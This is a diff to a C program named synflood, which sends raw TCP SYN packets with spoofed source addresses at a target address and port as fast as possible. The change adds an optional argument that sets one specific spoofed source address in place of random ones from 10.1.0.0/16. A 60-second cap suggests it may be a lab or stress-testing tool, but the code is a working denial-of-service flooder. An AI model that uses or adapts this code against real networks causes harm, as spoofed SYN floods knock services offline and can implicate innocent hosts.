@@ -1,10 +1,10 @@
 /*
  * SYNs from spoofed sources, as fast as they go.
  *
- *   synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS
+ *   synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE]
  *
- * Sources are 10.1.0.0/16 with random ports. Prints how many were sent. Ends after SECONDS (at most
- * 60) or 100 million.
+ * Sources are 10.1.0.0/16, or that one, with random ports. Prints how many were sent. Ends after
+ * SECONDS (at most 60) or 100 million.
  */
 #include <arpa/inet.h>
 #include <linux/if_ether.h>
@@ -22,6 +22,7 @@ enum { FRAME = 14 + 20 + 20, BURST = 64, MOST = 100000000, MOST_S = 60 };
 static uint8_t frames[BURST][FRAME];
 static struct iovec iov[BURST];
 static struct mmsghdr messages[BURST];
+static struct in_addr source; /* zeros: many */
 
 static uint32_t sum(uint32_t start, const uint8_t *p, unsigned len)
 {
@@ -55,6 +56,8 @@ static void fill(uint8_t *frame, const uint8_t mac[6], struct in_addr to, uint16
 	ip[12] = 10;
 	ip[13] = 1;
 	memcpy(ip + 14, &random, 2);
+	if (source.s_addr)
+		memcpy(ip + 12, &source, 4);
 	memcpy(ip + 16, &to, 4);
 	put_sum(ip + 10, sum(0, ip, 20));
 	tcp[0] = (uint8_t)(0x40 | random >> 24);
@@ -70,7 +73,8 @@ static void fill(uint8_t *frame, const uint8_t mac[6], struct in_addr to, uint16
 
 static int usage(void)
 {
-	fprintf(stderr, "usage: synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS\n");
+	fprintf(stderr,
+	        "usage: synflood INTERFACE DESTINATION-MAC ADDRESS PORT SECONDS [SOURCE]\n");
 	return 2;
 }
 
@@ -83,7 +87,8 @@ int main(int argc, char **argv)
 	time_t end;
 	int fd;
 
-	if (argc != 6 || !inet_aton(argv[3], &to) ||
+	if (argc < 6 || argc > 7 || (argc == 7 && !inet_aton(argv[6], &source)) ||
+	    !inet_aton(argv[3], &to) ||
 	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
 	           &mac[4], &mac[5]) != 6 ||
 	    atoi(argv[5]) < 1 || atoi(argv[5]) > MOST_S)
